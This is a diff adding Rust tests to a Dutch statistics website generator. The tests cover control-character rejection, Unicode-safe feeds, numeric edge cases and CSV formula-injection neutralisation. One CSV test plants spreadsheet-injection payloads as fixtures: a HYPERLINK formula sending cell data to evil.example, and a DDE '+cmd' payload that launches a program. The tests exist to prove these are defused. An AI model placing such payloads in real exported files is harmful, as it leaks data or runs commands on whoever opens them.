@@ -184,7 +184,8 @@ fn a_stated_change_since_a_later_year() {
             "content/years/2017/figures.yaml",
             "grooming:\n  value: 43\n  stated_change: {percent: 5, since: 2018}\n",
         ),
-        &["content/years/2017/figures.yaml:1", "not before 2017"],
+        // At `since` itself (was the figure's key, line 1, before places had columns).
+        &["content/years/2017/figures.yaml:3:38", "not before 2017"],
     );
 }
 
@@ -586,5 +587,405 @@ fn a_shortcode_with_an_unknown_argument() {
             "content/pages/over.md:8:1",
             "`figure` has no argument `jaar`",
         ],
+    );
+}
+
+// -- control characters --------------------------------------------------------------------
+// Refused wherever they are, typed or written as an escape: invisible, and they make the
+// Atom feed ill-formed XML. Each is named at its own line and column.
+
+#[test]
+fn yaml_escapes_for_control_characters_in_the_site_title() {
+    assert_fails(
+        |s| {
+            s.replace(
+                "content/site.yaml",
+                "title: Testrapport",
+                r#"title: "Test\0rap\x07port\e""#,
+            )
+        },
+        &[
+            "content/site.yaml:1:13: `\\0` in this quoted text is an invisible control character (U+0000)",
+            "content/site.yaml:1:18: `\\x07` in this quoted text is an invisible control character (U+0007)",
+            "content/site.yaml:1:26: `\\e` in this quoted text is an invisible control character (U+001B)",
+            "hint: remove `\\x07`",
+        ],
+    );
+}
+
+#[test]
+fn a_typed_control_character_in_metrics_yaml() {
+    assert_fails(
+        |s| {
+            s.replace(
+                "content/metrics.yaml",
+                "label: Grooming",
+                "label: Groo\u{1b}[2Jming",
+            )
+        },
+        &[
+            "content/metrics.yaml:14:14: an invisible control character (U+001B) is in the text",
+            "hint: delete it",
+        ],
+    );
+}
+
+#[test]
+fn control_characters_in_figures_yaml_are_all_reported() {
+    assert_fails(
+        write(
+            "content/years/2017/figures.yaml",
+            "grooming: {value: 43, source: \"cijfers\\a\"}\nsexting: {value: 135, note: \"a\\u0008b\"}\n",
+        ),
+        &[
+            "content/years/2017/figures.yaml:1:39: `\\a` in this quoted text is an invisible control character (U+0007)",
+            "content/years/2017/figures.yaml:2:31: `\\u0008` in this quoted text",
+        ],
+    );
+}
+
+#[test]
+fn control_characters_in_a_report_front_matter_and_body() {
+    assert_fails(
+        write(
+            "content/years/2017/report.md",
+            "---\ntitle: Jaarverslag\ndate: 2018\nsummary: \"Kort\\x1b\"\n---\nTekst\u{7} met &#7; en &#x1B;.\n",
+        ),
+        &[
+            "content/years/2017/report.md:4:15: `\\x1b` in this quoted text is an invisible control character (U+001B)",
+            "content/years/2017/report.md:6:6: an invisible control character (U+0007) is in the text",
+            "content/years/2017/report.md:6:12: `&#7;` is an invisible control character (U+0007)",
+            "content/years/2017/report.md:6:20: `&#x1B;` is an invisible control character (U+001B)",
+        ],
+    );
+}
+
+#[test]
+fn noncharacters_and_c1_controls_are_refused() {
+    assert_fails(
+        |s| {
+            s.write(
+                "content/publications/ffff.md",
+                "---\ntitle: \"Niet\\uFFFE\"\ndate: 2021\nkind: persbericht\n---\nTekst\u{ffff}.\n",
+            );
+            // U+0092: a Windows apostrophe read in the wrong encoding.
+            s.write("content/pages/plak.md", "---\ntitle: Plak\n---\nIt\u{92}s.\n");
+        },
+        &[
+            "content/publications/ffff.md:2:13: `\\uFFFE` in this quoted text is a code that is not a character (U+FFFE)",
+            "content/publications/ffff.md:6:6: a code that is not a character (U+FFFF) is in the text",
+            "content/pages/plak.md:4:3: an invisible control character (U+0092) is in the text",
+        ],
+    );
+}
+
+/// Awkward text that is allowed: XML specials, quotes, emoji, right-to-left marks and
+/// embeddings, a line separator (U+2028), a tab; escaped or typed.
+const AWKWARD: &str =
+    "Cijfers & <feiten> \"dubbel\" 'enkel' 😀 \u{200f}\u{202b}نص\u{202c} a\u{2028}b\tc";
+
+#[test]
+fn awkward_but_allowed_text_builds_and_the_feed_and_sitemap_are_well_formed() {
+    let site = TestSite::new("basic");
+    // YAML cannot hold U+2028 typed (it is a line break there): its escape is `\L`.
+    // The marks are typed into the YAML; the line separator and the tab are escapes.
+    let yaml =
+        "\"Cijfers & <feiten> \\\"dubbel\\\" 'enkel' 😀 \u{200f}\u{202b}نص\u{202c} a\\Lb\\tc\"";
+    site.replace(
+        "content/site.yaml",
+        "title: Testrapport",
+        &format!("title: {yaml}"),
+    );
+    site.replace(
+        "content/publications/persbericht-2020.md",
+        "title: Persbericht over 2020",
+        &format!("title: {yaml}"),
+    );
+    site.replace(
+        "content/publications/persbericht-2020.md",
+        "summary: De cijfers van 2020.",
+        "summary: 'Samenvatting & <meer> \"zo\" \u{200f}rtl 😀'",
+    );
+    site.replace(
+        "content/publications/persbericht-2020.md",
+        "Weglopers:",
+        &format!("{AWKWARD} &amp; &#x2028; &#169;\n\nWeglopers:"),
+    );
+    site.build_ok();
+
+    let atom = site.read("public/atom.xml");
+    let doc = roxmltree::Document::parse(&atom).unwrap_or_else(|e| panic!("{e}\n{atom}"));
+    let feed_title = doc
+        .root_element()
+        .children()
+        .find(|n| n.has_tag_name("title"))
+        .unwrap();
+    assert_eq!(feed_title.text(), Some(AWKWARD));
+    let entry_texts: Vec<&str> = doc
+        .descendants()
+        .filter(|n| n.has_tag_name("title") || n.has_tag_name("summary"))
+        .filter_map(|n| n.text())
+        .collect();
+    assert!(entry_texts.contains(&AWKWARD), "{entry_texts:?}");
+    assert!(
+        entry_texts.contains(&"Samenvatting & <meer> \"zo\" \u{200f}rtl 😀"),
+        "{entry_texts:?}"
+    );
+    let sitemap = site.read("public/sitemap.xml");
+    let doc = roxmltree::Document::parse(&sitemap).unwrap();
+    assert!(doc.descendants().filter(|n| n.has_tag_name("loc")).count() > 10);
+    // In the page, escaped as text.
+    let page = site.read("public/publicaties/persbericht-2020/index.html");
+    assert!(page.contains("Cijfers &amp; &lt;feiten&gt;"), "{page}");
+    assert!(!page.contains("<feiten>"));
+}
+
+// -- CSV cells that a spreadsheet would run ----------------------------------------------
+
+/// Every CSV file of the site, parsed: its path, its header and its rows.
+fn every_csv(site: &TestSite) -> Vec<(String, Vec<String>, Vec<Vec<String>>)> {
+    let public = site.path("public");
+    let mut files = Vec::new();
+    for entry in walkdir::WalkDir::new(&public) {
+        let entry = entry.unwrap();
+        if entry.path().extension().is_some_and(|e| e == "csv") {
+            let mut reader = csv::Reader::from_path(entry.path()).unwrap();
+            let header = reader.headers().unwrap().iter().map(String::from).collect();
+            let rows = reader
+                .records()
+                .map(|r| r.unwrap().iter().map(String::from).collect())
+                .collect();
+            let rel = entry.path().strip_prefix(&public).unwrap();
+            files.push((rel.display().to_string(), header, rows));
+        }
+    }
+    files
+}
+
+#[test]
+fn csv_cells_that_would_run_as_formulas_are_neutralised_in_every_csv() {
+    let site = TestSite::new("basic");
+    site.replace(
+        "content/metrics.yaml",
+        "label: Weglopers",
+        r#"label: '=HYPERLINK("https://evil.example/?"&A1,"klik")'"#,
+    );
+    site.replace(
+        "content/metrics.yaml",
+        "unit: nieuwe dossiers",
+        "unit: \"+cmd|' /C calc'!A0\"",
+    );
+    site.replace(
+        "content/years/2020/figures.yaml",
+        "note: Tijdens de lockdowns liepen minder jongeren weg.",
+        "note: \"-2+3\"",
+    );
+    site.replace(
+        "content/years/2019/figures.yaml",
+        "weglopers: {value: 1400, source: persbericht-2020}",
+        "weglopers: {value: 1400, source: \"@SUM(A1:A9)\", note: \"\\t=1+1\"}",
+    );
+    site.replace(
+        "content/years/2020/figures.yaml",
+        "grooming: {value: 129, source: persbericht-2020}",
+        "grooming: {value: 129, source: persbericht-2020, note: \"\\r=1+1\"}",
+    );
+    site.build_ok();
+
+    let files = every_csv(&site);
+    assert!(
+        files.len() >= 10,
+        "{:?}",
+        files.iter().map(|f| &f.0).collect::<Vec<_>>()
+    );
+    let numeric = [
+        "year",
+        "value",
+        "stated_change_percent",
+        "stated_change_since",
+    ];
+    let mut negative_numbers = 0;
+    for (path, header, rows) in &files {
+        // Chart files: `year` and one column of values per metric.
+        let is_number = |column: usize| {
+            path.starts_with("grafieken/") || numeric.contains(&header[column].as_str())
+        };
+        for row in rows {
+            for (column, cell) in row.iter().enumerate() {
+                if is_number(column) {
+                    assert!(
+                        cell.is_empty() || cell.parse::<f64>().is_ok(),
+                        "{path}: {cell:?} is not a number"
+                    );
+                    negative_numbers += usize::from(cell.starts_with('-'));
+                } else {
+                    assert!(
+                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{path}: {cell:?} would run as a formula"
+                    );
+                }
+            }
+        }
+    }
+    // The two negative stated changes (-25, -30) stay numbers, in figures.csv and in
+    // their metric's file.
+    assert_eq!(negative_numbers, 4);
+
+    let (_, header, rows) = files.iter().find(|f| f.0 == "data/figures.csv").unwrap();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let row = rows
+        .iter()
+        .find(|r| r[column("year")] == "2020" && r[column("metric")] == "weglopers")
+        .unwrap();
+    assert_eq!(
+        row[column("label")],
+        r#"'=HYPERLINK("https://evil.example/?"&A1,"klik")"#
+    );
+    assert_eq!(row[column("unit")], "'+cmd|' /C calc'!A0");
+    assert_eq!(row[column("note")], "'-2+3");
+    assert_eq!(row[column("stated_change_percent")], "-25");
+    let row = rows
+        .iter()
+        .find(|r| r[column("year")] == "2019" && r[column("metric")] == "weglopers")
+        .unwrap();
+    assert_eq!(row[column("source")], "'@SUM(A1:A9)");
+    assert_eq!(row[column("note")], "'\t=1+1");
+    let row = rows
+        .iter()
+        .find(|r| r[column("year")] == "2020" && r[column("metric")] == "grooming")
+        .unwrap();
+    assert_eq!(row[column("note")], "'\r=1+1");
+    // JSON is not opened by spreadsheets: the label as written.
+    let json: serde_json::Value =
+        serde_json::from_str(&site.read("public/data/figures.json")).unwrap();
+    assert!(json
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|r| r["label"] == r#"=HYPERLINK("https://evil.example/?"&A1,"klik")"#));
+}
+
+// -- numbers -------------------------------------------------------------------------------
+
+fn stated_change(change: &'static str) -> impl FnOnce(&TestSite) {
+    move |s: &TestSite| {
+        s.replace(
+            "content/years/2020/figures.yaml",
+            "stated_change: {percent: -30, since: 2018}",
+            change,
+        )
+    }
+}
+
+#[test]
+fn a_stated_change_of_1e308_percent() {
+    assert_fails(
+        stated_change("stated_change: {percent: 1e308, since: 2018}"),
+        &["content/years/2020/figures.yaml:8:28: `ontvoeringen`: the stated change (1e308%) is implausibly large"],
+    );
+}
+
+#[test]
+fn a_stated_change_below_minus_100_percent() {
+    assert_fails(
+        stated_change("stated_change: {percent: -250, since: 2018}"),
+        &["content/years/2020/figures.yaml:8:28: `ontvoeringen`: the stated change is -250%, but nothing can fall by more than 100%"],
+    );
+}
+
+#[test]
+fn a_stated_change_that_is_not_a_number() {
+    assert_fails(
+        stated_change("stated_change: {percent: .nan, since: 2018}"),
+        &["content/years/2020/figures.yaml:8:28: `ontvoeringen`: the stated change is not a number"],
+    );
+}
+
+#[test]
+fn a_stated_change_since_minus_5() {
+    assert_fails(
+        stated_change("stated_change: {percent: -30, since: -5}"),
+        &["content/years/2020/figures.yaml:8:40: `ontvoeringen`: the stated change is since -5, which is not a year"],
+    );
+}
+
+#[test]
+fn a_stated_change_since_the_year_1000() {
+    assert_fails(
+        stated_change("stated_change: {percent: -30, since: 1000}"),
+        &["content/years/2020/figures.yaml:8:40: `ontvoeringen`: the stated change is since 1000, which is not a year"],
+    );
+}
+
+#[test]
+fn a_stated_change_since_its_own_year_is_placed() {
+    assert_fails(
+        stated_change("stated_change: {percent: -30, since: 2020}"),
+        &["content/years/2020/figures.yaml:8:40: `ontvoeringen`: the stated change is since 2020, which is not before 2020"],
+    );
+}
+
+#[test]
+fn an_integer_above_2_to_the_53() {
+    // Read as a 64-bit float it is 9007199254740992: it would be published one less.
+    assert_fails(
+        write(
+            "content/years/2017/figures.yaml",
+            "sexting: 135\ngrooming:\n  value: 9007199254740993\n",
+        ),
+        &["content/years/2017/figures.yaml:3:10: `grooming` is implausibly large (9007199254740993)"],
+    );
+}
+
+#[test]
+fn the_largest_exact_integer_is_published_exactly() {
+    let site = TestSite::new("basic");
+    site.write(
+        "content/years/2019/figures.yaml",
+        "weglopers: {value: 1400, source: persbericht-2020}\nontvoeringen: {value: 200, source: persbericht-2020}\ngrooming: 9007199254740991\n",
+    );
+    site.build_ok();
+    assert!(site
+        .read("public/data/figures.csv")
+        .contains("\n2019,grooming,Grooming,online,dossiers,9007199254740991,"));
+    assert!(site
+        .read("public/data/figures.json")
+        .contains("\"value\": 9007199254740991,"));
+    assert!(site
+        .read("public/grafieken/grooming.csv")
+        .contains("\n2019,9007199254740991\n"));
+    assert!(site
+        .page("cijfers/grooming/index.html")
+        .contains("9.007.199.254.740.991"));
+}
+
+#[test]
+fn minus_zero_is_published_as_zero() {
+    let site = TestSite::new("basic");
+    site.write(
+        "content/years/2019/figures.yaml",
+        "weglopers: {value: 1400, source: persbericht-2020}\nontvoeringen: {value: 200, source: persbericht-2020}\nsexting: -0.0\ngrooming: -0\n",
+    );
+    site.build_ok();
+    for (path, _, rows) in every_csv(&site) {
+        for row in rows {
+            assert!(!row.iter().any(|c| c == "-0"), "{path}: {row:?}");
+        }
+    }
+    let csv = site.read("public/data/figures.csv");
+    assert!(
+        csv.contains("\n2019,sexting,Sexting,online,dossiers,0,"),
+        "{csv}"
+    );
+    assert!(site
+        .read("public/grafieken/thema-online-1.csv")
+        .contains("\n2019,0,0,\n"));
+    let json = site.read("public/data/figures.json");
+    assert!(!json.contains("-0"), "{json}");
+    let page = site.page("cijfers/sexting/index.html");
+    assert!(page.contains("2019</th><td>0</td>"), "{page}");
+    assert!(
+        !page.contains("\u{2212}0<") && !page.contains(">-0<"),
+        "{page}"
     );
 }
